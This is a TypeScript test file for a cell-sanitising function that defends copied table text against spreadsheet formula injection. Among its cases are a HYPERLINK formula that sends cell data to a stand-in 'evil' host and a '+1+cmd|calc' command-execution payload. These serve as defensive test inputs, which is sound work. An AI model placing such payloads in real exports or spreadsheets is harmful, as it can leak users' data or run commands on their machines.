import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cellText, tableText } from './tableText.ts'

describe('a cell of a copied table', () => {
  it.each([
    ['=HYPERLINK("http://evil/?"&A1,"x")', `'=HYPERLINK("http://evil/?"&A1,"x")`],
    ['+1+cmd|calc', `'+1+cmd|calc`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['  =1+1', `'=1+1`],
    ['\u00a0=1+1', `'=1+1`],
    ['\t=1+1', `'=1+1`],
    ['\n=1+1', `'=1+1`],
    ['＝1+1', `'＝1+1`],
    ['Ann-Marie O’Neal', 'Ann-Marie O’Neal'],
    ['Lee\tSam\nJr', 'Lee Sam Jr'],
    ['–', '–'],
    [null, ''],
  ])('%j is copied as %j', (typed, copied) => {
    expect(cellText(typed)).toBe(copied)
  })

  it.each(['-3', '+9', '-0.5', '.512', '-.512', '45.1%', '1,024', '0'])(
    'the number %s stays a number',
    (number) => {
      expect(cellText(number)).toBe(number)
      expect(cellText(Number.parseFloat(number))).toBe(String(Number.parseFloat(number)))
    },
  )

  it('never begins a formula, and never ends its cell or row', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (typed) => {
        const copied = cellText(typed)
        expect(copied).not.toMatch(/[\t\r\n]/)
        if (/^\s*[=@]/.test(copied)) throw new Error(copied)
        if (/^\s*[+-]/.test(copied)) expect(Number.isNaN(Number.parseFloat(copied))).toBe(false)
      }),
    )
  })
})

it('a table is rows of cells with tabs between', () => {
  expect(
    tableText([
      ['Player', 'PTS'],
      ['=A1', -3],
    ]),
  ).toBe(`Player\tPTS\n'=A1\t-3`)
})
